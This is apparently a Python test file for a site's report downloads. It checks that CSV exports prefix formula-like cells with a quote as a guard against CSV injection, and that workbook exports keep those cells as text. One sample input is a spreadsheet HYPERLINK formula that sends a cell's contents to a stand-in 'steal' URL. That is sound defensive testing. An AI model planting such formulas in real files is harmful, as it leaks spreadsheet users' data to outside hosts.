"""CSV downloads neutralise text a spreadsheet program would run as a formula (OWASP's CSV-injection rule); the
workbook, which writes every text as a string, keeps the value as it is."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl

from reports.site.downloads import Column, Table, write_csv, write_workbook

HOSTILE = (
    '=HYPERLINK("https://example.org/steal?"&A1,"Click")',
    "+44 20 7946 0000",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+1",
)
TABLE = Table(
    "cells",
    "Cells",
    "Text as it came from reports, a number and a date.",
    (Column("Text", "Anything."), Column("Count", "A number.", "number"), Column("Day", "A date.", "date")),
    (
        *((text, -3, date(2026, 11, 30)) for text in HOSTILE),
        ("Improve the timeliness of assessments = plans.", 4, date(2026, 12, 1)),
    ),
)


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    write_csv(path, TABLE)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["Text", "Count", "Day"]
    assert [row[0] for row in rows[1:]] == [*(f"'{text}" for text in HOSTILE), TABLE.rows[-1][0]]
    assert {row[1] for row in rows[1:6]} == {"-3"}  # a number is a number, not text to neutralise
    assert rows[1][2] == "2026-11-30"


def test_the_workbook_keeps_the_values_as_strings(tmp_path: Path) -> None:
    path = tmp_path / "cells.xlsx"
    write_workbook(path, [TABLE])
    sheet = openpyxl.load_workbook(path)["cells"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
    assert [cell.value for cell in cells] == list(HOSTILE)
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
